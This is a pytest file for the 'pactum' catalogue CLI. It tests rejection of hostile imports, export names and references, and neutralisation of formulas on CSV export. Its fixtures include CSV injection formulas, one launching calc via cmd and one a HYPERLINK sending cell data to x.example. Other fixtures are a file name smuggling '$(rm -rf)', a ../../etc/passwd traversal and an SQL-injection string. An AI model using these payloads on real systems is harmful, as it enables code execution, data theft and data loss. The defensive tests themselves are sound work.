"""Hostile input at the command line: one clear line on stderr, exit code 1, no traceback,
and the catalogue unchanged. Also: spreadsheet formulas are neutralised on CSV export."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from db import open_catalog
from desktop.cli import main
from tests.db.safety_helpers import export_dict, sample, snapshot

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://x.example/?"&A1;"click")',
)


def run(capsys, path: Path, *args: str) -> tuple[int, str]:
    code = main(["--catalog", str(path), *args])
    return code, capsys.readouterr().err


def refused(capsys, path: Path, *args: str, message: str) -> None:
    before = snapshot(path)
    code, err = run(capsys, path, *args)
    assert code == 1, err
    assert err.startswith("pactum: ") and message in err
    assert "Traceback" not in err and err.count("\n") == 1
    assert snapshot(path) == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\xff\xfe not utf-8", "not UTF-8 text"),
        (b"[" * 100_000, "nested too deeply"),
        (b'{"format": "pactum-catalogue", "format_version": 99}', "version 99 is not supported"),
        (json.dumps(export_dict([sample(1)])).replace("UA", "XX").encode(), "'XX' is not"),
    ],
)
def test_import_of_hostile_files(capsys, demo_file: Path, tmp_path: Path, content, message) -> None:
    bad = tmp_path / "bad.json"
    bad.write_bytes(content)
    refused(capsys, demo_file, "import", str(bad), message=message)


def test_import_of_a_folder_or_a_missing_file(capsys, demo_file: Path, tmp_path: Path) -> None:
    refused(capsys, demo_file, "import", str(tmp_path), message="is a folder")
    refused(capsys, demo_file, "import", str(tmp_path / "none.json"), message="No such file")


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("..", "ending in .json or .csv"),
        (".", "ending in .json or .csv"),
        ("../", "ending in .json or .csv"),
        ("a\x00b.csv", "control characters"),
        ("line\nbreak.csv", "control characters"),
        ("bell\x07.json", "control characters"),
        ("nowhere/../../missing-folder/x.csv", "does not exist"),
        ("folder.csv", "is a folder"),
        ("x" * 300 + ".csv", "File name too long"),
        ("demo.pactum.exe", "ending in .json or .csv"),
    ],
)
def test_export_to_hostile_names(capsys, demo_file: Path, name: str, message: str) -> None:
    (demo_file.parent / "folder.csv").mkdir()
    refused(capsys, demo_file, "export", str(demo_file.parent / name), message=message)
    leftovers = {p.name for p in demo_file.parent.iterdir()} - {"demo.pactum", "backups"}
    assert leftovers <= {"folder.csv", "demo.pactum-wal", "demo.pactum-shm"}


def test_export_with_dots_and_odd_characters_writes_exactly_there(
    capsys, demo_file: Path, tmp_path: Path
) -> None:
    (tmp_path / "sub").mkdir()
    target = tmp_path / "sub" / ".." / "звіт ' ; $(rm -rf) `x` ..csv"
    code, err = run(capsys, demo_file, "export", str(target))
    assert code == 0, err
    assert (tmp_path / "звіт ' ; $(rm -rf) `x` ..csv").is_file()


def test_catalogue_itself_is_no_export_target(capsys, tmp_path: Path) -> None:
    path = tmp_path / "odd.json"
    open_catalog(path, create=True).close()
    refused(capsys, path, "export", str(path), message="is the catalogue itself")


@pytest.mark.parametrize(
    "ref", ["../../etc/passwd", "9" * 40, "²", "١٢", "' OR 1=1 --", "-1", "0", "\u202e1"]
)
def test_show_with_hostile_references(capsys, demo_file: Path, ref: str) -> None:
    refused(capsys, demo_file, "show", ref, message="no agreement")


def test_backup_and_salvage_with_hostile_names(capsys, demo_file: Path, tmp_path: Path) -> None:
    refused(capsys, demo_file, "backup", "restore", "../../demo.pactum", message="is not one of")
    existing = tmp_path / "keep.txt"
    existing.write_text("keep")
    refused(capsys, demo_file, "check", "--salvage", str(existing), message="already exists")
    assert existing.read_text() == "keep"


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"\x89PNG\r\n\x1a\n" + bytes(200), "PNG image"), (b"hello", "text file")],
)
def test_check_of_things_that_are_not_catalogues(
    capsys, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "thing.pactum"
    path.write_bytes(content)
    code, err = run(capsys, path, "check")
    assert code == 1 and message in err and "Traceback" not in err
    assert path.read_bytes() == content


def test_csv_export_neutralises_formulas_and_json_keeps_them(capsys, tmp_path: Path) -> None:
    path = tmp_path / "f.pactum"
    data = export_dict([sample(n) for n in range(len(FORMULAS))])
    for item, formula in zip(data["agreements"], FORMULAS, strict=True):
        item["title"] = formula
        item["summary"] = formula
        item["place"] = formula
        item["notes"] = [formula]
    source = tmp_path / "formulas.json"
    source.write_text(json.dumps(data), encoding="utf-8")
    assert main(["--catalog", str(path), "import", str(source)]) == 0
    out = tmp_path / "out.csv"
    assert main(["--catalog", str(path), "export", str(out)]) == 0
    with out.open(encoding="utf-8", newline="") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column in ("title", "summary", "place", "notes"):
            assert row[column].startswith("'"), row[column]
            assert row[column][1:] in FORMULAS
    back = tmp_path / "back.json"
    assert main(["--catalog", str(path), "export", str(back)]) == 0
    exported = json.loads(back.read_text(encoding="utf-8"))
    assert {a["title"] for a in exported["agreements"]} == set(FORMULAS)
    capsys.readouterr()
